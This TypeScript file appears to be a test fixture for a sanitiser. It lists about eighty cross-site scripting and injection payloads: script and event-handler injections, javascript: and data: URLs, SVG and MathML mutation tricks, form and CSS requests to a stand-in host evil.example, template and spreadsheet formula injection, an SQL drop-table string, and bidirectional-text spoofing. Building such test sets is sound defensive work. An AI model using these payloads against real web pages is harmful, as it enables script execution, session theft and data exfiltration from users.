/**
 * What feeds, files, models and people could write to make a page do something of theirs. Each that runs sets
 * `window.ran`, opens a dialog, or asks evil.example for something. Those that swallow what follows stand last.
 */
export const payloads: readonly string[] = [
  // script
  '<script>window.ran=1;alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script\t\n>',
  '<script type=module>window.ran=1</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(String.fromCharCode(49))</script>',
  '<script\u0000>alert(1)</script>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '＜script＞alert(1)＜/script＞',
  // handlers
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror="window.ran=1">',
  "' autofocus onfocus=alert(1) x='",
  '" autofocus onfocus=alert(1) x="',
  '` onmouseover=alert(1) x=`',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div style="animation:x" onanimationstart=alert(1)></div>',
  '<a onpointerenter=alert(1) href=#>x</a>',
  '<button popovertarget=x onbeforetoggle=alert(1)>x</button>',
  // addresses
  'javascript:alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href=" &#14; java&#x09;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '<https://evil.example/auto>',
  '//evil.example/x',
  'https://wire.example@evil.example/',
  // pictures that are programs
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  // shapes that change when they are read twice
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
  // the page around it
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";*{display:none}</style>',
  '<p style="background:url(https://evil.example/css)">x</p>',
  '</form><form action="https://evil.example/" method=post><input name=form_token>',
  '<button form=x formaction="https://evil.example/">x</button>',
  '<input type=hidden name=form_token value=x>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2.png 2x">',
  '<a id=visitor name=forms></a><img name=cookie><form id=querySelector></form>',
  // templates, other tongues, and direction
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant for another program's templates
  '${alert(1)} #{alert(1)} <%= alert(1) %> {% raw %} [[${1}]]',
  '=HYPERLINK("https://evil.example/","x")',
  '\u202egnp.exe\u202c \u2066x\u2069 \u200b\ufeff \u0007',
  "'; drop table users; --",
  // swallow what follows
  '</title></textarea></style></noscript></template></select><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<plaintext>',
  '<textarea>',
  '<!--',
]

/** All of them in one text. */
export const everyPayload = payloads.join(' ')

/** Cells that a spreadsheet would compute. */
export const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("https://evil.example/","x")',
] as const
